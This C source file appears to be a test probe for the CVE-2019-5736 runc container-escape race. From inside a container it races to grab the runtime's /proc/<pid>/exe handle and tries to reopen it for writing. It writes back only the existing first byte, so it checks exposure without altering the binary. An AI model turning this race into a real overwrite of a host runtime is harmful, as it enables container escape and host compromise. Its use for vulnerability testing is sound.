/* The CVE-2019-5736 attacker, run inside a container (static, opens nothing
 * of its own before the race).
 *
 *   exe_probe race|observe [PID]
 *
 * Spins on /proc/<pid>/exe of PID, or of the next few pids of its pid
 * namespace (from /proc/sys/kernel/ns_last_pid), with O_PATH, as the public PoC does, while
 * the test execs into the container. Each refusal (EACCES/EPERM: a
 * non-dumpable runtime) is counted, and the probe then watches that pid
 * alone; /proc/<pid>/maps is tried too (the first three times). The first
 * handle obtained is kept; its target is printed ("exe=..."). In "race" mode
 * the probe then waits for that process to end and reopens the handle for
 * writing through /proc/self/fd/N, and writes back the byte already at
 * offset 0 (so the file is unchanged even if the write is allowed): it
 * prints "open_w=ok|<errno>" and "write=ok|<errno>". "observe" mode only
 * records every exe target seen until the watched pid exits. Ends with "done".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define WINDOW 16

static const char *ename(int e) {
	switch (e) {
	case EACCES: return "EACCES";
	case EPERM: return "EPERM";
	case ETXTBSY: return "ETXTBSY";
	case EROFS: return "EROFS";
	case ENOENT: return "ENOENT";
	case ESRCH: return "ESRCH";
	default: return strerror(e);
	}
}

static double now(void) {
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int alive(int pid) {
	char path[64], buf[256];
	snprintf(path, sizeof path, "/proc/%d/stat", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	char *p = strrchr(buf, ')');
	return p && p[1] == ' ' && p[2] != 'Z' && p[2] != 'X';
}

int main(int argc, char **argv) {
	int race = argc > 1 && strcmp(argv[1], "race") == 0;
	char buf[4096], path[64];
	int first = 0, fd = -1, pid = 0, denied = 0, maps_denied = 0, maps_leak = 0;
	FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "r");
	if (!f || fscanf(f, "%d", &first) != 1) {
		printf("error=ns_last_pid\ndone\n");
		return 1;
	}
	fclose(f);
	first += 1;
	int window = WINDOW;
	int locked = 0;
	if (argc > 2) {
		first = atoi(argv[2]);
		window = 1;
	}
	printf("watching=%d\n", first);
	fflush(stdout);
	double deadline = now() + 10;
	int maps_tries = 0;
	unsigned long spins = 0;
	while (fd < 0 && now() < deadline) {
		if (!locked && ++spins % 256 == 0) {
			/* the pid was used and is gone already: missed it entirely */
			int last = 0;
			FILE *l = fopen("/proc/sys/kernel/ns_last_pid", "r");
			if (l) {
				if (fscanf(l, "%d", &last) != 1)
					last = 0;
				fclose(l);
			}
			snprintf(path, sizeof path, "/proc/%d", first);
			if (last >= first && access(path, F_OK) != 0)
				break;
		}
		for (int p = first; p < first + window && fd < 0; p++) {
			snprintf(path, sizeof path, "/proc/%d/exe", p);
			int e = open(path, O_PATH | O_CLOEXEC);
			if (e >= 0) {
				fd = e;
				pid = p;
				break;
			}
			if (errno == ENOENT && locked) { /* it ended: missed */
				deadline = 0;
				break;
			}
			if (errno != EACCES && errno != EPERM)
				continue;
			denied++;
			if (!locked) { /* the runtime's process: watch it alone */
				locked = 1;
				first = p;
				window = 1;
				printf("denied_pid=%d\n", p);
				fflush(stdout);
			}
			if (maps_tries++ < 3) {
				snprintf(path, sizeof path, "/proc/%d/maps", p);
				int m = open(path, O_RDONLY | O_CLOEXEC);
				if (m < 0) {
					maps_denied++;
				} else {
					ssize_t n = read(m, buf, sizeof buf - 1);
					if (n > 0) {
						buf[n] = 0;
						if (strstr(buf, "python") || strstr(buf, "venv") ||
						    strstr(buf, "/oci/") || strstr(buf, "runc"))
							maps_leak++;
					}
					close(m);
				}
			}
		}
	}
	printf("denied=%d\nmaps_denied=%d\nmaps_leak=%d\n", denied, maps_denied, maps_leak);
	if (fd < 0) {
		printf("exe=none\ndone\n");
		fflush(stdout);
		if (!race)
			sleep(1); /* as below: the exec'd program may still run */
		return 0;
	}
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	ssize_t n = readlink(path, buf, sizeof buf - 1);
	buf[n > 0 ? n : 0] = 0;
	printf("pid=%d\nexe=%s\n", pid, buf);
	if (argc > 2 && race) {
		/* the container's init: we die with it, so try at once */
		int w = open(path, O_WRONLY | O_CLOEXEC);
		printf("open_w=%s\n", w < 0 ? ename(errno) : "ok");
		if (w >= 0)
			close(w); /* (nothing written while it may be the real binary) */
		printf("done\n");
		fflush(stdout);
		return 0;
	}
	fflush(stdout);
	if (!race) {
		/* every later exe of the process, until it ends */
		char last[4096];
		strcpy(last, buf);
		snprintf(path, sizeof path, "/proc/%d/exe", pid);
		while (alive(pid) && now() < deadline) {
			n = readlink(path, buf, sizeof buf - 1);
			if (n > 0) {
				buf[n] = 0;
				if (strcmp(buf, last) != 0) {
					printf("exe=%s\n", buf);
					fflush(stdout);
					strcpy(last, buf);
				}
			}
		}
		printf("done\n");
		fflush(stdout);
		sleep(1); /* the container ends with us: let the exec'd program finish */
		return 0;
	}
	while (alive(pid) && now() < deadline)
		usleep(1000);
	printf("exited=%d\n", !alive(pid));
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	int r = open(path, O_RDONLY | O_CLOEXEC);
	unsigned char byte = 0;
	if (r >= 0) {
		if (pread(r, &byte, 1, 0) != 1)
			printf("read=%s\n", ename(errno));
		close(r);
	}
	int w = open(path, O_WRONLY | O_CLOEXEC);
	if (w < 0) {
		printf("open_w=%s\n", ename(errno));
	} else {
		printf("open_w=ok\n");
		if (pwrite(w, &byte, 1, 0) == 1)
			printf("write=ok\n");
		else
			printf("write=%s\n", ename(errno));
		close(w);
	}
	printf("done\n");
	return 0;
}
